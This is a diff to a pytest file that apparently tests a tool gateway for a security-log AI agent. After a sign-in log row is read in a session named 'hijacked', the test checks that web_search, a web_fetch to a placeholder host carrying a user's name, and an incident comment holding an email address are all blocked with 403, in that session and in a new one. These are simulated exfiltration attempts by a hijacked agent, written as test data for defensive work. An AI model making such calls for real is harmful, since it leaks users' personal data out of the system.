@@ -279,15 +279,17 @@ def test_many_runaways_at_once_do_not_hold_up_the_other_tools(way: FreeformWay) 
         assert ends <= {504, 429}, "stopped at its deadline, or told to try again"
 
 
-def test_what_was_read_goes_nowhere_afterwards(way: FreeformWay) -> None:
+@pytest.mark.parametrize("where", ["here", "in the next conversation"])
+def test_what_was_read_goes_nowhere_afterwards(way: FreeformWay, where: str) -> None:
     """A freeform result may be any row, so its label stops every sink of the shipped policy."""
+    sending = "hijacked" if where == "here" else way.gateway.open_session()
     assert way.ask("SigninLogs | take 1", session_id="hijacked", time_window="last_24h").status == 200
     for tool, arguments, reason in (
         ("web_search", {"query": "ana@contoso.example"}, "sink_label"),
         ("web_fetch", {"url": "https://x.example/?q=ana"}, "approval_required"),
         ("add_incident_comment", {"incident": "1", "message": "ana@contoso.example"}, "approval_required"),
     ):
-        answer = way.gateway.call(tool, arguments, session_id="hijacked")
+        answer = way.gateway.call(tool, arguments, session_id=sending)
         assert (answer.status, answer.body["reason"]) == (403, reason), tool
         assert way.gateway.last_record()["reason"] == reason
 
